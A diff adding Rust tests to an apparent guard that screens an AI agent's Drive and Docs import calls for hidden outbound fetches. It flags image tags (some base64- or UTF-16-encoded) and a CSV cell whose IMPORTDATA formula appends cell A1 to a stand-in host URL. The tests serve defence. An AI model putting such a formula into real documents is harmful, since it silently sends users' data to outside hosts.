@@ -75,3 +75,55 @@ fn trashing_a_file_is_asked_about() {
     assert_eq!(codes(&judge("update_drive_file", json!({"file_id": "1", "trashed": true}))), ["trashed"]);
     assert!(codes(&judge("update_drive_file", json!({"file_id": "1", "trashed": false}))).is_empty());
 }
+
+#[test]
+fn what_an_import_brings_along_is_fetched() {
+    let found = |tool: &str, arguments: Value| {
+        let judgement = judge(tool, arguments);
+        judgement.destinations().iter().map(|(value, _, at)| format!("{value} {at}")).collect::<Vec<_>>()
+    };
+    let html = "<p>x</p><img src=\"https://e.example/a\">";
+    assert_eq!(
+        found("import_to_google_doc", json!({"file_name": "a.html", "content": html})),
+        ["https://e.example/a /content"]
+    );
+    // The same in base64, in UTF-8 and in UTF-16.
+    for text in [
+        "PHA+eDwvcD48aW1nIHNyYz0iaHR0cHM6Ly9lLmV4YW1wbGUvYSI+",
+        "//48AGkAbQBnACAAcwByAGMAPQAiAGgAdAB0AHAAcwA6AC8ALwBlAC4AZQB4AGEAbQBwAGwAZQAvAGEAIgA+AA==",
+    ] {
+        let arguments = json!({"file_name": "a.html", "base64_content": text});
+        assert_eq!(found("import_to_google_doc", arguments), ["https://e.example/a /base64_content"]);
+    }
+    assert_eq!(
+        found("update_drive_file", json!({"file_id": "1", "content": "![x](https://e.example/a)"})),
+        ["https://e.example/a /content"]
+    );
+    let converted = json!({"content": html, "mime_type": "application/vnd.google-apps.document"});
+    assert_eq!(found("create_drive_file", converted), ["https://e.example/a /content"]);
+    let csv = json!({"file_name": "a.csv", "content": "a,\"=IMPORTDATA(\"\"https://e.example/\"\"&A1)\""});
+    assert_eq!(codes(&judge("import_to_google_sheets", csv.clone())), ["formula_fetches"]);
+    assert_eq!(found("import_to_google_sheets", csv), ["https://e.example/ /content"]);
+}
+
+#[test]
+fn a_plain_import_passes() {
+    for (tool, arguments) in [
+        (
+            "import_to_google_doc",
+            json!({"file_name": "a.md", "content": "# Notes\n\n[docs](https://x.io) =IMAGE(A1)"}),
+        ),
+        (
+            "import_to_google_doc",
+            json!({"file_name": "a.docx", "base64_content": "UEsDBAoAPGltZyBzcmM9Imh0dHA6Ly94LmlvIj4="}),
+        ),
+        (
+            "import_to_google_sheets",
+            json!({"file_name": "a.csv", "content": "a,b\nhttps://x.io,=SUM(A1:A2)"}),
+        ),
+        ("create_drive_file", json!({"file_name": "a.html", "content": "<img src=\"https://e.example/a\">"})),
+        ("update_drive_file", json!({"file_id": "1", "name": "b"})),
+    ] {
+        assert_eq!(judge(tool, arguments.clone()), Judgement::new(), "{tool}: {arguments}");
+    }
+}
